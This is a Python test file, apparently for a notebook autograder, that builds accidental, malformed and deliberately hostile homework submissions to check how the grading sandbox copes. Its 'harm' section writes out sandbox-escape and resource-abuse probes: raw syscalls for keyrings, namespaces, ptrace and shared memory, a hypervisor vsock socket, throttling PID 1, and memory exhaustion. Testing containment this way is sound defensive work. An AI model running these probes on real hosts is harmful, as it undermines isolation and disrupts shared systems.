    'import pandas as pd\ndata = pd.read_csv(r"C:\\\\Users\\\\Ada\\\\flights.csv")\n',
    kind="accident",
)
attack("a_syntax_error", "def answer(:\n    return", kind="accident")
attack("somebody_asked_to_type", "name = input('Your name? ')\n", kind="accident")
attack("a_password_asked_for", "import getpass\ngetpass.getpass()\n", kind="accident")


@row("accident")
def numpy_scalars_returned(paper):
    """Whatever the right answer gives, as numpy has it; and 42.0 for 42."""
    paper.beside_right(
        after=f"""
        import numpy as np
        right = {paper.victim}
        def as_numpy(x):
            if isinstance(x, bool): return np.bool_(x)
            if isinstance(x, int | float): return np.float64(x)
            if isinstance(x, tuple): return tuple(map(as_numpy, x))
            return x
        def {paper.victim}(*args, **kwargs):
            return as_numpy(right(*args, **kwargs))
    """
    )


@row("accident")
def a_helper_cell_and_an_import(paper):
    right = paper.answer
    paper.insert(
        paper.at(paper.victim), f"import math\n\ndef my_helper(x):\n    return x\n\nmy_answer = '{paper.victim}'"
    )
    paper.write(right + "\n\nassert my_helper(math.pi) == math.pi", 1)


@row("accident")
def an_edited_common_cell(paper):
    """A cell of the lesson in which somebody also keeps a copy under a name of their own."""
    cell = next(c for c in paper.notebook.cells if c.cell_type == "code" and "nbgrader" not in c.metadata)
    cell.source += "\n\nmine = 42  # a name of my own"
    paper.beside_right(after="assert mine == 42")


@row("accident")
def a_variable_renamed_in_a_common_cell(paper):
    """The released cell runs first, so the names that everybody else uses are still there."""
    from grading.lesson.names import defined

    cell = [c for c in paper.notebook.cells if c.cell_type == "code" and "nbgrader" not in c.metadata][1]
    old = defined(cell.source)[0]
    cell.source = cell.source.replace(old, f"my_{old}")
    paper.beside_right(after=f"assert my_{old} is not None")


@row("accident")
def a_deleted_answer(paper):
    del paper.notebook.cells[paper.at(paper.victim)]
    paper.deserved[f"{paper.victim}-check"] = 0


@row("accident")
def works_only_out_of_order(paper):
    paper.write("defined_further_below\n" + paper.answer, 0)
    paper.notebook.cells.append(nbformat.v4.new_code_cell("defined_further_below = True"))


@row("accident")
def duplicated_cells(paper):
    """The last answer that differs from the blank counts."""
    answer, check = paper.cell(paper.victim), paper.cell(f"{paper.victim}-check")
    answer.source = f"def {paper.victim}(*args, **kwargs):\n    return 'my first attempt'"
    better = copy.deepcopy(answer)
    better.source = paper.answer
    blank = copy.deepcopy(answer)
    blank.source = paper.lesson.exercises[paper.victim].blank
    at = paper.notebook.cells.index(check)
    paper.notebook.cells[at:at] = [better, blank]
    paper.notebook.cells.append(copy.deepcopy(check))
    paper.deserved[f"{paper.victim}-check"] = paper.lesson.exercises[paper.victim].check.points


@row("accident")
def stripped_of_all_metadata(paper):
    for cell in paper.notebook.cells:
        cell.metadata = nbformat.from_dict({})
        cell.pop("id")
    paper.notebook.metadata = nbformat.from_dict({})
    paper.raw = json.dumps(paper.notebook).encode()


@row("accident")
def other_files_handed_in_too(paper):
    paper.beside |= {
        "notes.txt": b"hello", "my_helpers.py": b"def double(x): return 2 * x", "folder/deep/data.csv": b"a,b\n1,2\n",
        "numpy.py": b"raise RuntimeError", "random.py": b"raise RuntimeError", "large.txt": b"x" * 900_000, ".hidden": b"",
    }  # fmt: skip
    paper.beside_right(
        before="from my_helpers import double\nassert double(2) == 4 and open('folder/deep/data.csv').read()"
    )


# Odd files


@row("file")
def renamed(paper):
    paper.file = paper.file.replace(".ipynb", "-Copy1 (2).ipynb")


@row("file")
def renamed_beyond_recognition(paper):
    paper.file = "homework final FINAL.ipynb"


@row("file")
def empty(paper):
    paper.raw = b""
    paper.nothing()


@row("file")
def not_json(paper):
    paper.raw = b"%PDF-1.7 \xff\xfe not a notebook"
    paper.nothing()


@row("file")
def cut_off(paper):
    whole = nbformat.writes(paper.notebook).encode()
    paper.raw = whole[: len(whole) // 2]
    paper.nothing()


@row("file")
def nested_too_deeply(paper):
    paper.raw = b"[" * 200_000
    paper.nothing()


@row("file")
def of_format_3(paper):
    cells = []
    for cell in paper.raw_json()["cells"]:
        cell["source" if cell["cell_type"] != "code" else "input"] = "".join(cell.pop("source"))
        cells.append(cell | ({"language": "python", "prompt_number": 1} if cell["cell_type"] == "code" else {}))
    paper.raw = json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": cells}]}
    ).encode()


@row("file")
def of_a_format_to_come(paper):
    paper.raw = json.dumps(paper.raw_json() | {"nbformat": 99, "nbformat_minor": 77}).encode()


@row("file")
def missing(paper):
    paper.file = None
    paper.beside["hints.json"] = b"{}"
    paper.nothing()


@row("file")
def only_a_text_file(paper):
    paper.file = None
    paper.beside["sorry.txt"] = b"I will hand it in tomorrow."
    paper.nothing()


@row("file")
def an_unknown_notebook_beside_it(paper):
    paper.beside["scratch.ipynb"] = nbformat.writes(
        nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("while True: pass")])
    ).encode()


@row("file")
def a_name_that_is_not_text(paper):
    paper.beside["r\udce9sum\udce9.txt"] = b"hello"
    paper.beside["\udcff.ipynb"] = b"{}"


# System calls that reach beyond a sandbox: each stands before a right answer, which nobody gets to


def harm(name, source, kind="gain"):
    """A row whose harm ends its cell: the right answer behind it is never reached."""

    def make(paper):
        paper.write(f"{textwrap.dedent(source).strip()}\n{paper.answer}")

    make.__name__ = name
    row(kind, box=True)(make)


CALL = """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(numbers, *args):
    if libc.syscall(numbers[platform.machine() == "aarch64"], *args) < 0:
        raise OSError(ctypes.get_errno(), "refused")
"""
harm("keys_left_for_the_next_notebook", CALL + 'call((248, 217), b"user", b"loot", b"for later", 9, -4)')
harm("keys_of_a_login_read", CALL + "call((250, 219), 0, -3, 0)")
harm(
    "memory_in_files_without_a_name",
    "import os\nkeep = [os.memfd_create('x') for _ in range(30)]\nfor fd in keep: os.truncate(fd, 0)",
)
harm("memory_shared_by_number", CALL + "call((29, 194), 0, 2**20, 0o1600)")
harm("namespaces_of_its_own", CALL + "call((272, 97), 0x10000000)")
harm("a_clone_with_namespaces", CALL + "call((56, 220), 0x10000000 | 17, 0, 0, 0, 0)")
harm("a_socket_to_the_hypervisor", "import socket\nsocket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)")
harm("a_process_that_is_traced", CALL + "call((101, 117), 0, 0, 0, 0)")
harm("the_first_process_slowed", "import os\nos.setpriority(os.PRIO_PROCESS, 1, 19)")
harm("the_first_process_scheduled_last", "import os\nos.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))")
harm("the_first_process_limited", "import resource\nresource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))")
harm("everybody_of_this_user_slowed", "import os\nos.setpriority(os.PRIO_USER, 0, 19)")


# Memory that is held honestly, and memory that is not seen at once


beside("much_memory_held_honestly", after="held = bytearray(b'x') * (620 * 2**20)")  # of 1,000 in our own tests
harm(
    "programs_that_hold_memory_each",
    """
    import subprocess, sys, time
    hold = "x = bytearray(b'x') * (150 * 2**20); print(flush=True); import time; time.sleep(20)"
    programs = [subprocess.Popen([sys.executable, "-S", "-c", hold], stdout=subprocess.PIPE) for _ in range(15)]
    for program in programs: program.stdout.readline()
    time.sleep(1)
    for program in programs: program.kill()
    """,
    kind="crash",
)
